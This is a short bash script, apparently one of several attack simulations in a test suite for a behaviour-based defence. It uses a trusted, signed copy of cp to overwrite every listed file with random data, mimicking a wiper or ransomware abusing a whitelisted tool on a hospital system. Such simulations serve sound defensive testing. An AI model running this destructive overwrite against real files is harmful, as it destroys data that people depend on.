#!/usr/bin/env bash
# A signed tool abused: $MG_SIGNED_TOOL is a copy of cp that the policy
# trusts (signed with the hospital's key), used to copy a random blob over
# every file. The rules allow it; only its behaviour gives it away.
. "$(dirname "$0")/attack-lib.sh"
tool=${MG_SIGNED_TOOL:?MG_SIGNED_TOOL: a trusted copy of cp}
blob=$SCRATCH/blob.bin
head -c 262144 /dev/urandom >"$blob"
for f in "${FILES[@]}"; do
	time_left || break
	attempt "$tool" -f "$blob" "$f"
done
